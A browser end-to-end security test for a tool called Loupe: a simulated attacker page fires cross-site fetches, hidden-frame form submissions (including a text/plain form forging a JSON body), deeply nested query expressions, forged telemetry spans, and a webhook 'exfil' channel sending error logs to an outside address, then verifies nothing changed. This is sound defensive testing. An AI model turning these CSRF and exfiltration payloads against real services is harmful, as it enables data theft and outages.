// Browser end-to-end of the cross-site defences (SECURITY.md), run by
// `tests/browser_security.rs` against a running Loupe:
//
//   node ui/e2e/security.mjs <API base URL> <OTLP/HTTP base URL> <routes JSON> <artifacts dir>
//
// A page served from another origin — `http://evil.example:PORT` (mapped to
// loopback by Chromium's host resolver rules, so it is a foreign site) and
// `http://127.0.0.1:PORT` (the same host, another port) — tries every
// state-changing route of the route table with `fetch` in `no-cors` mode
// (each simple content type), with CORS-mode JSON, with HTML forms
// (urlencoded, multipart, text/plain), and sends `<img>`/`<script>` GETs
// with hostile `q=` expressions. Afterwards nothing has changed, Loupe is
// up, and the page never read an answer.

import { mkdirSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';

const CHROMIUM = process.env.LOUPE_CHROMIUM ?? '/usr/bin/chromium';
const [, , API, OTLP, ROUTES, ARTIFACTS] = process.argv;
const log = (s) => process.stdout.write(`${s}\n`);
mkdirSync(ARTIFACTS, { recursive: true });

const routes = JSON.parse(ROUTES);

// The attacker's page. Plain script, no CSP: the attacker controls it.
const attackPage = (origin) => `<!doctype html><meta charset=utf-8><title>attack</title>
<body><h1>Totally harmless page on ${origin}</h1><pre id=out></pre>
<script>
const API = ${JSON.stringify(API)};
const OTLP = ${JSON.stringify(OTLP)};
const ROUTES = ${JSON.stringify(routes)};
const CHANNEL = JSON.stringify({ name: 'exfil', kind: 'webhook', url: 'http://203.0.113.9/x', allowPrivate: true, template: '{{error_logs}}' });
const RULE = JSON.stringify({ yaml: 'name: all\\nsignal: traces\\ncondition: {}\\n' });
const results = { sent: 0, readable: [], forms: 0, probes: 0 };
const concrete = (p) => p.replace(/\\{[^}]*\\}/g, '1');
async function run() {
  const jobs = [];
  for (const [pattern] of ROUTES) {
    for (const prefix of ['', '/api/v1']) {
      const url = API + prefix + concrete(pattern);
      for (const method of ['POST', 'PUT', 'DELETE', 'PATCH']) {
        for (const ct of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x']) {
          for (const body of [CHANNEL, RULE]) {
            jobs.push(fetch(url, { method, mode: 'no-cors', headers: { 'Content-Type': ct }, body }).then(() => results.sent++, () => {}));
          }
        }
        // With a preflight: must never be granted, so never readable.
        jobs.push(fetch(url, { method, mode: 'cors', headers: { 'Content-Type': 'application/json', 'X-Loupe-Request': '1' }, body: CHANNEL })
          .then((r) => results.readable.push(method + ' ' + url + ' ' + r.status), () => {}));
      }
      // HTML forms: POST only, in hidden frames.
      for (const enctype of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain']) {
        const name = 'f' + Math.random().toString(36).slice(2);
        const frame = document.createElement('iframe');
        frame.name = name;
        frame.style.display = 'none';
        document.body.append(frame);
        const form = document.createElement('form');
        form.method = 'POST';
        form.action = url;
        form.enctype = enctype;
        form.target = name;
        const input = document.createElement('input');
        // text/plain forms send "name=value": forge a JSON body.
        input.name = CHANNEL.slice(0, -1) + ',"pad":"';
        input.value = '"}';
        form.append(input);
        document.body.append(form);
        jobs.push(new Promise((resolve) => { frame.onload = resolve; setTimeout(resolve, 4000); }));
        form.submit();
        results.forms++;
      }
    }
  }
  // Reading anything: must fail (no CORS headers on the API).
  for (const p of ['/api/v1/services', '/api/v1/traces', '/api/v1/channels', '/health']) {
    jobs.push(fetch(API + p).then(async (r) => results.readable.push(p + ' ' + r.status + ' ' + (await r.text()).slice(0, 40)), () => {}));
  }
  // Hostile expressions through <img> and <script>: the process must stay up.
  const deep = '('.repeat(10000) + 'a = b' + ')'.repeat(10000);
  const nots = 'NOT '.repeat(10000) + 'a = b';
  for (const path of ['/api/v1/traces', '/api/v1/logs', '/api/v1/export', '/api/v1/export/preview']) {
    for (const q of [deep, nots]) {
      for (const tag of ['img', 'script']) {
        const el = document.createElement(tag);
        jobs.push(new Promise((resolve) => { el.onload = resolve; el.onerror = resolve; setTimeout(resolve, 5000); }));
        el.src = API + path + '?q=' + encodeURIComponent(q);
        document.body.append(el);
        results.probes++;
      }
    }
  }
  // Telemetry: simple content types are refused, JSON needs a preflight
  // that a foreign origin does not get.
  const span = JSON.stringify({ resourceSpans: [{ resource: { attributes: [{ key: 'service.name', value: { stringValue: 'attacker' } }] }, scopeSpans: [{ spans: [{ traceId: '5b8efff798038103d269b633813fc60c', spanId: 'eee19b7ec3c1b174', name: 'forged', startTimeUnixNano: '1', endTimeUnixNano: '2' }] }] }] });
  for (const ct of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x']) {
    jobs.push(fetch(OTLP + '/v1/traces', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': ct }, body: span }).then(() => {}, () => {}));
  }
  if (location.hostname === 'evil.example') {
    jobs.push(fetch(OTLP + '/v1/traces', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: span })
      .then((r) => results.readable.push('otlp ' + r.status), () => {}));
  }
  await Promise.all(jobs);
  document.getElementById('out').textContent = JSON.stringify(results, null, 1);
  window.results = results;
  document.title = 'done';
}
run();
</script>`;

const server = createServer((req, res) => {
  const origin = `http://${req.headers.host}`;
  res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
  res.end(attackPage(origin));
});
await new Promise((r) => server.listen(0, '127.0.0.1', r));
const port = server.address().port;

const apiGet = async (p) => {
  const r = await fetch(API + p);
  if (!r.ok) throw new Error(`GET ${p}: ${r.status}`);
  return r.json();
};
const state = async () => {
  const out = {};
  for (const p of ['/api/v1/rules', '/api/v1/channels', '/api/v1/imports', '/api/v1/settings/filters', '/api/v1/settings/log-level', '/api/v1/dashboard', '/api/v1/services']) {
    out[p] = await apiGet(p);
  }
  return JSON.stringify(out);
};

const { chromium } = await import('playwright-core');
const browser = await chromium.launch({
  executablePath: CHROMIUM,
  headless: true,
  args: [
    '--no-sandbox',
    '--disable-gpu',
    '--disable-background-networking',
    '--disable-component-update',
    '--no-first-run',
    '--disable-sync',
    // A foreign site that resolves to this machine (as a DNS rebinding
    // attacker's name would) without touching the network.
    '--host-resolver-rules=MAP evil.example 127.0.0.1',
  ],
  timeout: 30_000,
});
let failed = null;
try {
  const before = await state();
  for (const origin of [`http://evil.example:${port}`, `http://127.0.0.1:${port}`]) {
    const page = await (await browser.newContext()).newPage();
    page.setDefaultTimeout(60_000);
    await page.goto(`${origin}/attack`);
    await page.waitForFunction(() => document.title === 'done', null, { timeout: 90_000 });
    const results = await page.evaluate(() => window.results);
    await page.screenshot({ path: join(ARTIFACTS, `security-${new URL(origin).hostname}.png`) });
    log(`ok ${origin}: ${results.sent} no-cors requests sent, ${results.forms} forms, ${results.probes} hostile GETs`);
    if (results.readable.length) throw new Error(`${origin} read answers: ${results.readable.join('; ')}`);
    // Still up, and nothing changed.
    const health = await fetch(`${API}/health`);
    if (!health.ok) throw new Error(`Loupe is not healthy after ${origin}: ${health.status}`);
    const after = await state();
    if (after !== before) throw new Error(`state changed after ${origin}:\nbefore ${before}\nafter  ${after}`);
    log(`ok ${origin}: nothing changed, Loupe up`);
    await page.close();
  }
} catch (e) {
  failed = e;
} finally {
  await browser.close();
  server.close();
}
if (failed) {
  process.stderr.write(`${failed.stack ?? failed}\n`);
  process.exit(1);
}
log('security: all attacks refused');
